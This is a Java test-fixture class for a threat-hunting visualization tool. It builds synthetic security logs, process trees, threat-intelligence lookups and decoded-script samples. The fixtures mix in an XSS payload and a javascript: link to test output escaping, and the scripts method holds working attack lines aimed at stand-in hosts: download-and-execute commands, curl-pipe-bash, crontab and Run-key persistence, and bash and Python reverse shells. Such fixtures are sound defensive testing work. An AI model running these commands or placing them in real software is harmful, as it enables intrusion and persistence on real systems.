package dev.hunt4j.visualization;

import dev.hunt4j.api.data.Column;
import dev.hunt4j.api.data.ColumnType;
import dev.hunt4j.api.data.ResultStream;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Deterministic test data shaped like hunt4j's query and analyzer output, with hostile values mixed in. */
final class Samples {
    /** Markup and script in a value: a view that embeds it unescaped breaks or runs it. */
    static final String HOSTILE = "</script><script>window.__pwned=1</script><img src=x onerror=\"window.__pwned=2\">"
            + "<b>bold</b> &amp; \u2028 <!-- '\"";
    static final Instant START = Instant.parse("2024-05-01T00:00:00Z");
    static final String[] HOSTS = {"WKS-01", "WKS-02", "WKS-03", "WKS-04", "WKS-05", "WKS-06", "WKS-07", "SRV-DC01", "SRV-FILE01"};
    static final String[] ACCOUNTS = {"alice", "bob", "carol", "dave", "erin", "SYSTEM", "svc_backup"};

    private Samples() {
    }

    static Column col(String name, ColumnType type) {
        return new Column(name, type);
    }

    static Column str(String name) {
        return new Column(name, ColumnType.STRING);
    }

    /** Security events: TimeGenerated, Computer, Account, EventID, IpAddress, CommandLine over three days. */
    static ResultStream events(int n, long seed) {
        Random r = new Random(seed);
        List<Column> cols = List.of(col("TimeGenerated", ColumnType.TIMESTAMP), str("Computer"), str("Account"),
                col("EventID", ColumnType.LONG), str("IpAddress"), str("CommandLine"));
        long[] ids = {4624, 4625, 4688, 4672, 4634};
        List<Object[]> rows = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            long offset = (long) (r.nextDouble() * 3 * 86_400_000L);
            // a password spray: a burst of 4625 on the DC in the afternoon of day two
            boolean spray = i % 25 == 0;
            if (spray) {
                offset = 86_400_000L + 14 * 3_600_000L + r.nextInt(2_400_000);
            }
            String host = spray ? "SRV-DC01" : HOSTS[r.nextInt(HOSTS.length)];
            String cmd = i == 7 ? HOSTILE : "cmd.exe /c whoami #" + i;
            rows.add(new Object[] {START.plusMillis(offset), host, ACCOUNTS[r.nextInt(ACCOUNTS.length)], spray ? 4625L : ids[r.nextInt(ids.length)],
                spray ? "203.0.113." + r.nextInt(20) : "10.0." + r.nextInt(4) + "." + r.nextInt(250), cmd});
        }
        return ResultStream.of(cols, rows);
    }

    /** Sign-ins as a second data set for multi-table timelines. */
    static ResultStream signins(int n, long seed) {
        Random r = new Random(seed);
        List<Column> cols = List.of(str("TimeGenerated"), str("Computer"), str("Account"), str("ResultType"));
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            Instant t = START.plusSeconds(r.nextInt(3 * 86_400));
            rows.add(new Object[] {t.toString().replace('T', ' ').replace("Z", ""), HOSTS[r.nextInt(HOSTS.length)],
                ACCOUNTS[r.nextInt(ACCOUNTS.length)], r.nextInt(10) == 0 ? "50126" : "0"});
        }
        return ResultStream.of(cols, rows);
    }

    static final List<Column> PROC_COLUMNS = List.of(col("TimeGenerated", ColumnType.TIMESTAMP), str("Computer"), str("NewProcessName"),
            str("NewProcessId"), str("ProcessId"), str("ParentProcessName"), str("CommandLine"), str("SubjectUserName"),
            str("SubjectLogonId"), str("proc_key"), str("parent_key"), str("path"), col("IsRoot", ColumnType.BOOLEAN),
            col("IsLeaf", ColumnType.BOOLEAN), col("IsBranch", ColumnType.BOOLEAN), col("depth", ColumnType.LONG),
            col("source_index", ColumnType.LONG));

    private static final String[][] PROGRAMS = {
        {"C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"},
        {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"dir C:\\Users\\Public\""},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -Command Get-Service"},
        {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
        {"C:\\Windows\\System32\\whoami.exe", "whoami /all"},
        {"C:\\Windows\\System32\\net.exe", "net user /domain"},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\invoice.docm\""},
        {"C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\ProgramData\\a.dll,Start"},
        {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"},
        {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"},
        {"C:\\Windows\\System32\\reg.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
        {"C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://evil.example.com/a.exe a.exe"}};

    /** Process-creation events as the proctree analyzer returns them: input columns plus the tree columns. */
    static ResultStream processTree(int n, int hosts, long seed) {
        Random r = new Random(seed);
        List<Object[]> rows = new ArrayList<>(n);
        int perHost = Math.max(1, n / hosts);
        int pidSeq = 1000;
        for (int h = 0; h < hosts && rows.size() < n; h++) {
            String host = h < HOSTS.length ? HOSTS[h] : "HOST-" + h;
            List<Object[]> mine = new ArrayList<>();
            Instant t = START.plusSeconds(h * 60L);
            int count = h == hosts - 1 ? n - rows.size() : Math.min(perHost, n - rows.size());
            for (int i = 0; i < count; i++) {
                t = t.plusMillis(200 + r.nextInt(20_000));
                Object[] parent = null;
                if (!mine.isEmpty() && r.nextInt(30) != 0) {
                    int back = Math.min(mine.size(), 1 + (int) Math.abs(r.nextGaussian() * 6));
                    parent = mine.get(mine.size() - back);
                }
                String[] prog = PROGRAMS[r.nextInt(PROGRAMS.length)];
                String user = parent != null && r.nextInt(5) != 0 ? (String) parent[7] : ACCOUNTS[r.nextInt(ACCOUNTS.length)];
                String pid = "0x" + Integer.toHexString(pidSeq += 4);
                String cmd = prog[1];
                if (h == 0 && i == 5) {
                    cmd = HOSTILE;
                }
                String key = prog[0].toLowerCase() + "|" + pid + "|" + t;
                Object[] row = new Object[PROC_COLUMNS.size()];
                row[0] = t;
                row[1] = host;
                row[2] = prog[0];
                row[3] = pid;
                row[4] = parent == null ? "0x4" : parent[3];
                row[5] = parent == null ? "C:\\Windows\\System32\\services.exe" : parent[2];
                row[6] = cmd;
                row[7] = user;
                row[8] = "0x" + Integer.toHexString(user.hashCode() & 0xfffff);
                row[9] = key;
                row[10] = parent == null ? "" : parent[9];
                row[11] = "";
                row[12] = parent == null;
                row[13] = true;
                row[14] = false;
                row[15] = parent == null ? 0L : (Long) parent[15] + 1;
                row[16] = (long) rows.size();
                if (parent != null) {
                    parent[13] = false;
                    parent[14] = !(Boolean) parent[12];
                }
                mine.add(row);
                rows.add(row);
            }
        }
        return ResultStream.of(PROC_COLUMNS, rows);
    }

    /** Hourly byte counts over two weeks with the time-series analyzer's columns and three anomalies. */
    static ResultStream timeSeries() {
        List<Column> cols = List.of(col("TimeGenerated", ColumnType.TIMESTAMP), col("TotalBytesSent", ColumnType.DOUBLE),
                col("residual", ColumnType.DOUBLE), col("trend", ColumnType.DOUBLE), col("seasonal", ColumnType.DOUBLE),
                col("weights", ColumnType.DOUBLE), col("baseline", ColumnType.DOUBLE), col("score", ColumnType.DOUBLE),
                col("anomalies", ColumnType.LONG));
        Random r = new Random(3);
        List<Object[]> rows = new ArrayList<>();
        for (int h = 0; h < 14 * 24; h++) {
            double trend = 5000 + h * 3;
            double seasonal = 2000 * Math.sin(2 * Math.PI * (h % 24) / 24.0);
            double noise = r.nextGaussian() * 250;
            long anomaly = h == 100 || h == 230 ? 1 : h == 300 ? -1 : 0;
            double value = trend + seasonal + noise + (anomaly == 1 ? 6000 : anomaly == -1 ? -4500 : 0);
            double residual = value - trend - seasonal;
            rows.add(new Object[] {START.plus(Duration.ofHours(h)), value, residual, trend, seasonal, 1.0, trend + seasonal,
                residual / 250.0, anomaly});
        }
        return ResultStream.of(cols, rows);
    }

    static final List<Column> TI_COLUMNS = List.of(str("Ioc"), str("IocType"), str("QuerySubtype"), str("Provider"),
            col("Result", ColumnType.BOOLEAN), str("Severity"), col("Details", ColumnType.JSON), col("RawResult", ColumnType.JSON),
            str("Reference"), str("Status"));

    /** TI lookups of a dozen observables by four providers. */
    static ResultStream ti() {
        String[][] iocs = {{"185.220.101.4", "ipv4"}, {"evil.example.com", "dns"}, {"http://evil.example.com/a.ps1", "url"},
            {"44d88612fea8a8f36de82e1278abb02f", "md5_hash"}, {"10.0.0.5", "ipv4"}, {"update.microsoft.com", "dns"},
            {"203.0.113.7", "ipv4"}, {"bad-actor@example.net", "email"}, {"8.8.8.8", "ipv4"}, {HOSTILE, "dns"}};
        String[] providers = {"VirusTotal", "OTX", "GreyNoise", "AbuseIPDB"};
        String[] sev = {"high", "warning", "information", "unknown"};
        Random r = new Random(9);
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < iocs.length; i++) {
            for (String p : providers) {
                if (p.equals("GreyNoise") && !iocs[i][1].equals("ipv4")) {
                    continue;
                }
                int s = i < 3 ? r.nextInt(2) : i < 7 ? 1 + r.nextInt(3) : 2 + r.nextInt(2);
                boolean found = s < 2;
                String details = "{\"pulse_count\": " + (found ? 3 + r.nextInt(20) : 0) + ", \"tags\": [\"" + (found ? "malware" : "none")
                        + "\"], \"note\": " + Json.write(i == iocs.length - 1 ? HOSTILE : "lookup of " + iocs[i][0]) + "}";
                String raw = "{\"data\": {\"id\": " + Json.write(iocs[i][0]) + ", \"attributes\": {\"last_analysis_stats\": {\"malicious\": "
                        + (found ? 5 + r.nextInt(40) : 0) + ", \"harmless\": 60}}}}";
                String ref = i == iocs.length - 1 ? "javascript:window.__pwned=3" : "https://www." + p.toLowerCase() + ".example/ioc/" + i;
                rows.add(new Object[] {iocs[i][0], iocs[i][1], null, p, found, sev[s], details, raw, ref, "0"});
            }
        }
        return ResultStream.of(TI_COLUMNS, rows);
    }

    /** The query library as {@code hunt4j render queries} builds it (JSON parameters). */
    static ResultStream queries() {
        List<Column> cols = List.of(str("Query"), str("Environments"), str("Description"), str("Parameters"), str("Source"));
        String time = "{\"name\":\"start\",\"type\":\"datetime\",\"default\":\"-1d\",\"required\":false,\"description\":\"Query start time\"},"
                + "{\"name\":\"end\",\"type\":\"datetime\",\"default\":\"now\",\"required\":false,\"description\":\"Query end time\"}";
        List<Object[]> rows = new ArrayList<>();
        String[][] qs = {
            {"WindowsSecurity.list_host_logons", "LocalData", "Logons on a host",
                "[" + time + ",{\"name\":\"host_name\",\"type\":\"str\",\"required\":true,\"description\":\"Host to look at\"}]"},
            {"WindowsSecurity.list_host_processes", "LocalData", "Processes started on a host",
                "[" + time + ",{\"name\":\"host_name\",\"type\":\"str\",\"required\":true,\"description\":\"Host\"}]"},
            {"WindowsSecurity.list_logon_failures", "LocalData,MSSentinel", "Failed logons (4625) for an account",
                "[" + time + ",{\"name\":\"account_name\",\"type\":\"str\",\"required\":true,\"description\":\"Account\"},"
                    + "{\"name\":\"max_rows\",\"type\":\"int\",\"default\":1000,\"required\":false,\"description\":\"row limit\"}]"},
            {"Network.list_connections_by_ip", "MSSentinel", "Connections from or to IP addresses",
                "[" + time + ",{\"name\":\"ip_address_list\",\"type\":\"list\",\"required\":true,\"description\":\"IPs\"}]"},
            {"MDE.process_creations", "MDE", "Process creations on a device (DeviceProcessEvents)", "host_name*,start,end"},
            {"Splunk.list_alerts", "Splunk", "Alerts in a time range", "start,end"},
            {"Hostile.query", "LocalData", HOSTILE, "[" + time + "]"}};
        for (String[] q : qs) {
            rows.add(new Object[] {q[0], q[1], q[2], q[3], "queries/" + q[0].split("\\.")[0].toLowerCase() + ".yaml"});
        }
        return ResultStream.of(cols, rows);
    }

    /** Decoded scripts (base64 analyzer output shape) with their indicators. */
    static ResultStream scripts() {
        List<Column> cols = List.of(str("reference"), str("decoded_string"), col("iocs", ColumnType.JSON));
        List<Object[]> rows = new ArrayList<>();
        rows.add(new Object[] {"WKS-07 powershell -enc",
            "$wc = New-Object System.Net.WebClient\n$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\n"
                + "IEX ($wc.DownloadString('http://evil.example.com/a.ps1'))\n"
                + "Invoke-WebRequest -Uri https://cdn.evil.example.com/stage2.bin -OutFile $env:TEMP\\s.bin\n"
                + "Start-Process -FilePath \"$env:TEMP\\s.bin\" -WindowStyle Hidden  # beacon to 185.220.101.4",
            "{\"url\":[\"http://evil.example.com/a.ps1\",\"https://cdn.evil.example.com/stage2.bin\"],\"dns\":[\"evil.example.com\"],"
                + "\"ipv4\":[\"185.220.101.4\"]}"});
        rows.add(new Object[] {"web01 cron", "#!/bin/bash\n# persistence\n"
                + "curl -s http://203.0.113.7/x.sh | bash\n(crontab -l; echo \"*/5 * * * * /tmp/.x\") | crontab -\n"
                + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
            "{\"ipv4\":[\"203.0.113.7\"],\"url\":[\"http://203.0.113.7/x.sh\"]}"});
        rows.add(new Object[] {"WKS-02 batch", "@echo off\nset P=%TEMP%\\upd.exe\ncertutil -urlcache -split -f http://evil.example.com/upd.exe %P%\n"
                + "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d %P% /f\nstart \"\" %P%\n", null});
        rows.add(new Object[] {"SRV-FILE01 python", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
                + "s.connect((\"198.51.100.23\",443))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n", "198.51.100.23"});
        rows.add(new Object[] {"mail attachment .js", "var sh = new ActiveXObject(\"WScript.Shell\");\n"
                + "var url = \"https://evil.example.com/p\" + String.fromCharCode(46) + \"exe\";\nfunction run() { sh.Run(\"cmd /c curl \" + url); }\nrun();\n",
            "{\"url\":[\"https://evil.example.com/p\"],\"dns\":[\"evil.example.com\"]}"});
        rows.add(new Object[] {"invoice.vbs", "On Error Resume Next\nDim http\nSet http = CreateObject(\"MSXML2.XMLHTTP\")\n"
                + "http.Open \"GET\", \"http://198.51.100.23/update\", False\nhttp.Send\nWScript.Echo http.Status\n", "198.51.100.23"});
        rows.add(new Object[] {"hostile", "Write-Host '" + HOSTILE + "' ; Invoke-Expression evil.example.com",
            "{\"dns\":[\"evil.example.com\"]}"});
        return ResultStream.of(cols, rows);
    }

    /** Network flows: SourceIP, DestinationPort, BytesSent. */
    static ResultStream flows(int n) {
        Random r = new Random(5);
        List<Column> cols = List.of(str("SourceIP"), str("DestinationPort"), col("BytesSent", ColumnType.LONG));
        int[] ports = {22, 53, 80, 443, 445, 3389, 8080, 135, 139, 5985, 4444, 8443};
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            String ip = "10.0." + (r.nextInt(3)) + "." + (1 + (int) Math.abs(r.nextGaussian() * 12));
            int port = ports[Math.min(ports.length - 1, (int) Math.abs(r.nextGaussian() * 4))];
            if (i % 97 == 0) {
                ip = "10.0.0.66";
                port = 4444;
            }
            rows.add(new Object[] {i == 3 ? HOSTILE : ip, String.valueOf(port), (long) (100 + r.nextInt(100_000))});
        }
        return ResultStream.of(cols, rows);
    }

    /** Logons: Computer, Account, IpAddress, NewProcessName. */
    static ResultStream logons(int n) {
        Random r = new Random(11);
        List<Column> cols = List.of(str("Computer"), str("Account"), str("IpAddress"), str("NewProcessName"));
        String[] procs = {"powershell.exe", "cmd.exe", "explorer.exe", "rundll32.exe", "svchost.exe"};
        List<Object[]> rows = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            int h = (int) Math.min(HOSTS.length - 1, Math.abs(r.nextGaussian() * 3));
            String ip = r.nextInt(8) == 0 ? "203.0.113." + r.nextInt(5) : "10.0.0." + (10 + r.nextInt(12));
            rows.add(new Object[] {HOSTS[h], i == 9 ? HOSTILE : ACCOUNTS[r.nextInt(ACCOUNTS.length)], ip, procs[r.nextInt(procs.length)]});
        }
        return ResultStream.of(cols, rows);
    }
}
